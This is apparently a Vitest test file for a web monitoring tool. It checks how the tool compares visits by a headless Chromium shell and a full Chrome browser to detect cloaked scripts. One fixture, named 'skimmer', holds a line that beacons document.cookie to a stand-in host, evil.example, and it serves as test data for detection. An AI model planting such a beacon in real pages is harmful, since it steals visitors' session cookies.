import { causeOf } from '@tillwatch/contract/rules'
import { describe, expect, it } from 'vitest'
import type { Capture } from '#capture/index.ts'
import { compareVisits, type FurtherVisits, type Visit } from '#report/index.ts'
import { judge, of } from '../helpers/judge.ts'
import { makeBodies, makeCapture, makeScript } from '../helpers/make-capture.ts'

const app = { url: 'https://shop.example/app.js', text: 'document.title = "Pay"' }
const skimmer = { url: 'https://evil.example/x.js', text: 'navigator.sendBeacon("https://evil.example", document.cookie)' }

type Kind = 'shell' | 'full'
type Script = Parameters<typeof makeScript>[1]

function visit(kind: Kind, scripts: Script[], given: Partial<Capture> = {}): Visit {
  const bodies = makeBodies()
  const product = kind === 'full' ? 'Chrome' : 'Chromium headless shell'
  const browser = { ...makeCapture().browser, product, headless: kind }
  return { capture: makeCapture({ browser, ...given, scripts: scripts.map((script) => makeScript(bodies, script)) }), bodies }
}

const outcome = (status: 'partial' | 'failed', code: 'timeout' | 'dns-failed', detail = '') => ({
  outcome: {
    status,
    code,
    cause: causeOf('words', { text: detail }),
    issues: [{ code, cause: causeOf('words', { text: detail }), frameId: null, atMs: 9 }],
  },
})
const failing = (kind: Kind) => visit(kind, [], outcome('failed', 'timeout', '45 s'))

const full = { browser: 'Chrome 156.0.0.0', kind: 'full' }
const shell = { browser: 'Chromium headless shell 156.0.0.0', kind: 'shell' }
const late = { reason: 'timeout', text: '45 s' }

/** Further visits with the given results, in order; a visit without one must not be requested. */
function further(other?: Visit | { none: string }, again?: Visit) {
  const asked: string[] = []
  const visits: FurtherVisits = {
    async other(fullChrome) {
      asked.push(fullChrome ? 'full' : 'shell')
      if (!other) throw new Error('no second visit was due')
      return other
    },
    async again() {
      asked.push('again')
      if (!again) throw new Error('no third visit was due')
      return again
    },
  }
  return { asked, visits }
}

describe('the comparison of visits', () => {
  it('names the other browser, and makes no third visit if the two are alike', async () => {
    const { asked, visits } = further(visit('full', [app]))
    expect(await compareVisits(visit('shell', [app]), visits)).toEqual({
      differences: [],
      // Of the nonce that the other visit received.
      nonces: [expect.stringMatching(/^[0-9a-f]{64}$/)],
      cloakCheck: {
        state: 'compared',
        detail: 'The other browser: Chrome 156.0.0.0 (full browser).',
        detailCodes: [{ code: 'compared-with', params: full }],
      },
    })
    expect(asked).toEqual(['full'])
  })

  it('reports what only the other browser received, after a third visit by the first kind', async () => {
    const { asked, visits } = further(visit('full', [app, skimmer]), visit('shell', [app]))
    const { differences, cloakCheck } = await compareVisits(visit('shell', [app]), visits)
    expect(differences).toMatchObject([{ seenBy: 'second', label: expect.stringContaining('evil.example/x.js') }])
    expect(cloakCheck.state).toBe('compared')
    expect(asked).toEqual(['full', 'again'])
  })

  it('does not mistake chance for cloaking: what the first browser received in its other visit does not count', async () => {
    const { visits } = further(visit('full', [app, skimmer]), visit('shell', [app, skimmer]))
    expect(await compareVisits(visit('shell', [app]), visits)).toMatchObject({ differences: [], cloakCheck: { state: 'compared' } })
  })

  it('requests a shell for the second visit if the first used a full browser', async () => {
    const { asked, visits } = further(visit('shell', [app]))
    expect((await compareVisits(visit('full', [app]), visits)).cloakCheck).toEqual({
      state: 'compared',
      detail: 'The other browser: Chromium headless shell 156.0.0.0.',
      detailCodes: [{ code: 'compared-with', params: shell }],
    })
    expect(asked).toEqual(['shell'])
  })

  it.each(['full', 'shell'] as const)('never compares a %s browser with one of its own kind', async (kind) => {
    const { visits } = further(visit(kind, [app]))
    expect(await compareVisits(visit(kind, [app]), visits)).toEqual({
      differences: null,
      cloakCheck: {
        state: 'no-other-browser',
        detail: expect.stringContaining('the same type of browser'),
        detailCodes: [{ code: 'same-kind', params: kind === 'full' ? full : shell }],
      },
    })
  })

  it('keeps the sentence on why there is no other browser', async () => {
    const { visits } = further({ none: 'No full Chrome or Chromium was found.' })
    expect(await compareVisits(visit('shell', [app]), visits)).toEqual({
      differences: null,
      cloakCheck: {
        state: 'no-other-browser',
        detail: 'No full Chrome or Chromium was found.',
        detailCodes: [{ code: 'no-browser', params: { text: 'No full Chrome or Chromium was found.' } }],
      },
    })
  })

  it('stops after a failed first visit', async () => {
    const { asked, visits } = further()
    expect(await compareVisits(failing('shell'), visits)).toMatchObject({
      differences: null,
      cloakCheck: { state: 'first-visit-failed', detailCodes: [{ code: 'first-gave-nothing', params: late }] },
    })
    expect(asked).toEqual([])
  })

  it('visits no further after a visit that ran a journey, and says so', async () => {
    const { asked, visits } = further()
    const first = visit('shell', [app], { journey: { steps: [], views: [] } })
    expect(await compareVisits(first, visits)).toEqual({
      differences: null,
      cloakCheck: {
        state: 'journey-ran',
        detail: expect.stringContaining('runs the page’s journey only once'),
        detailCodes: [{ code: 'journey-ran', params: {} }],
      },
    })
    expect(asked).toEqual([])
  })

  it('concludes nothing from a failed second visit, and says why it failed', async () => {
    const { asked, visits } = further(failing('full'))
    expect(await compareVisits(visit('shell', [app]), visits)).toEqual({
      differences: null,
      cloakCheck: {
        state: 'second-visit-failed',
        detail: 'The visit with Chrome 156.0.0.0 (full browser) returned nothing, because the time limit was reached. (45 s)',
        detailCodes: [{ code: 'second-gave-nothing', params: { ...full, ...late } }],
      },
    })
    expect(asked).toEqual(['full'])
  })

  it('concludes nothing from a difference if the third visit failed or used the other kind of browser', async () => {
    for (const [third, code] of [
      [failing('shell'), { code: 'third-gave-nothing', params: late }],
      [visit('full', [app, skimmer]), { code: 'third-other-kind', params: full }],
    ] as const) {
      const { visits } = further(visit('full', [app, skimmer]), third)
      expect(await compareVisits(visit('shell', [app]), visits)).toMatchObject({
        differences: null,
        cloakCheck: { state: 'third-visit-failed', detail: expect.stringMatching(/^The third visit /), detailCodes: [code] },
      })
    }
  })

  it('says so if a part of the second visit is missing', async () => {
    const { visits } = further(visit('full', [app], outcome('partial', 'timeout')))
    expect((await compareVisits(visit('shell', [app]), visits)).cloakCheck.detail).toMatch(/The second visit is incomplete, because .+\.$/)
  })

  it('says so if a part of the first or third visit is missing, and does not blame the page for it', async () => {
    const partly = visit('shell', [app], outcome('partial', 'timeout'))
    const whole = visit('shell', [app])
    for (const [first, third, named] of [
      [partly, whole, 'first'],
      [whole, partly, 'third'],
    ] as const) {
      const comparison = await compareVisits(first, further(visit('full', [app, skimmer]), third).visits)
      expect(comparison.cloakCheck).toEqual({
        state: 'compared',
        detail: `The other browser: Chrome 156.0.0.0 (full browser). The ${named} visit is incomplete, because the time limit was reached.`,
        detailCodes: [
          { code: 'compared-with', params: full },
          { code: `${named}-partial`, params: { reason: 'timeout', text: '' } },
        ],
      })
      const result = judge(first.capture, first.bodies, { comparison })
      expect(of(result, 'inventory-differs-by-client')).toMatchObject([{ severity: 'info', params: { seenBy: 'second' } }])
    }
  })

  it('is in the result beside its findings, and absent without a comparison', async () => {
    const first = visit('shell', [app])
    const comparison = await compareVisits(first, further(visit('full', [app, skimmer]), visit('shell', [app])).visits)
    const result = judge(first.capture, first.bodies, { comparison })
    expect(result.cloakCheck).toEqual(comparison.cloakCheck)
    expect(of(result, 'inventory-differs-by-client')).toMatchObject([{ severity: 'medium', params: { seenBy: 'second' } }])
    expect(judge(first.capture, first.bodies)).not.toHaveProperty('cloakCheck')
  })
})
